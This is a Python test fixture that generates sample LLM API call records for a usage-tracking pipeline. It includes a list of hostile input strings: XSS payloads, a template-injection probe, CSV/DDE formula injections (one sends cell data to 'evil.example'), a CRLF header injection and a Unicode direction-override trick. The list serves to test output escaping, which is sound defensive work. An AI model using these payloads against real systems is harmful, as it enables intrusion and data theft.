"""Calls as sensors report them, with names that nobody wishes for: what comes from the wire is hostile."""

from __future__ import annotations

import uuid

from mmproto.v1.call_pb2 import Call, Observer
from mmproto.v1.usage_pb2 import Quality
from tests.pipeline.running import NOW_NS

HOUR_NS = 3600 * 1_000_000_000
DAY_NS = 24 * HOUR_NS

SCRIPT = "<script>document.body.dataset.stolen=1</script>"
ATTRIBUTE = "\"><img src=x onerror='document.body.dataset.stolen=1'>"
CLOSING = "</script><script>document.body.dataset.stolen=1</script>"
TEMPLATE = "{{ 7 * 7 }}{% raw %}"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
HOSTILE = (
    SCRIPT,
    ATTRIBUTE,
    CLOSING,
    TEMPLATE,
    FORMULA,
    "+1+cmd|' /C calc'!A0",
    "a\r\nSet-Cookie: x=1",
    "\u202eevil",
)


def sample(
    name: str,
    *,
    age_ns: int = HOUR_NS,
    team: str = "search",
    application: str = "ranker",
    user: str = "ada",
    model: str = "gpt-4o-mini",
    provider: str = "openai",
    tokens: tuple[int, int] = (1000, 100),
    tenant: str = "",
    error_type: str = "",
) -> Call:
    """One call of a sensor; its id follows from `name`."""
    call = Call(
        id=str(uuid.uuid5(uuid.NAMESPACE_OID, name)),
        provider=provider,
        operation="chat",
        request_model=model,
        response_model=model,
        host=f"api.{provider}.com",
        http_status=429 if error_type else 200,
        error_type=error_type,
        billable=not error_type,
        started_at_unix_ns=NOW_NS - age_ns,
        duration_s=1.25,
        tenant=tenant,
        team=team,
        application=application,
        user=user,
        node="node-1",
        observer=Observer.OBSERVER_SENSOR,
    )
    call.process.pid = 4242
    call.process.command = "python3"
    if not error_type:
        call.usage.quality = Quality.QUALITY_EXACT
        call.usage.tokens["input"], call.usage.tokens["output"] = tokens
    return call


def calls() -> list[Call]:
    """Some days of three teams: priced, unpriced, failed, unallocated."""
    return [
        *(sample(f"search {n}", age_ns=n * DAY_NS + HOUR_NS) for n in range(10)),
        *(
            sample(f"bill {n}", team="billing", model="gpt-4o", user="eve", age_ns=n * HOUR_NS)
            for n in range(1, 6)
        ),
        sample("unallocated", team="", application="", user=""),
        sample("no price", model="in-house-model"),
        sample("failed", error_type="rate_limit_exceeded"),
        sample("long ago", age_ns=400 * DAY_NS),
        sample("other company", tenant="other"),
    ]


def hostile_calls() -> list[Call]:
    """A call for each hostile text, which stands in every field that the wire or a rule can fill."""
    return [
        sample(f"hostile {n}", team=text, application=text, user=text, model=text, age_ns=HOUR_NS * (n + 1))
        for n, text in enumerate(HOSTILE)
    ]
